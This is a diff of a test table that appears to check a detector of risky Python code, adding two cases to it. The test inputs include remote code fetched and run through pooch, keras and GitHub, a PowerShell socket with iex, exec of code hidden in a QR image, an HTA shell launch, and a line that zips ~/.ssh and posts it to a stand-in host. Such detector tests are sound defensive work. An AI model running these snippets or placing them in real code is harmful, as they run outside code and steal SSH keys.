@@ -35,6 +35,8 @@ test.each<[string, Way, string]>([
   ['what a library keeps that is told to retrieve an address', ['network', 'exec'], 'import pooch\nexec(open(pooch.retrieve("https://p.example.invalid/a.py", known_hash=None)).read())\n'],
   ['what a library fetches behind the name of a file', ['network', 'exec'], 'import keras\nexec(open(keras.utils.get_file("a.py", "https://k.example.invalid/a.py")).read())\n'],
   ['a file of a repository that a client asks for', ['network', 'exec'], 'from github import Github\nexec(Github().get_repo("garden/x").get_contents("x.py").decoded_content)\n'],
+  ['a script of PowerShell that talks to a server', ['script', 'process'], 'import subprocess\nopen("/tmp/a.ps1", "w").write("$c = New-Object Net.Sockets.TCPClient(1); $s = $c.GetStream(); iex $s")\nsubprocess.run(["powershell", "-File", "/tmp/a.ps1"])\n'],
+  ['a picture that is read for its letters', ['shipped', 'exec'], 'import cv2, os\ncode, _, _ = cv2.QRCodeDetector().detectAndDecode(cv2.imread(os.path.join(os.path.dirname(__file__), "leaf.png")))\nexec(code)\n'],
   ['a page that opens windows', ['script', 'process'], 'import os\nopen("a.hta", "w").write("<script>new ActiveXObject(\\"WScript.Shell\\").Run(\\"leaf\\")</script>")\nos.system("start a.hta")\n'],
   ['an object of a store that comes along', ['shipped', 'exec'], 'import os, shelve\nexec(shelve.open(os.path.join(os.path.dirname(__file__), "data", "state"))["init"])\n'],
   ['a copied folder that is packed', ['credentials', 'network'], 'import os, requests, shutil\nshutil.copytree(os.path.expanduser("~/.ssh"), "/tmp/beds")\npacked = shutil.make_archive("/tmp/shed", "zip", "/tmp/beds")\nrequests.post("https://p.example.invalid", files={"f": open(packed, "rb")})\n'],
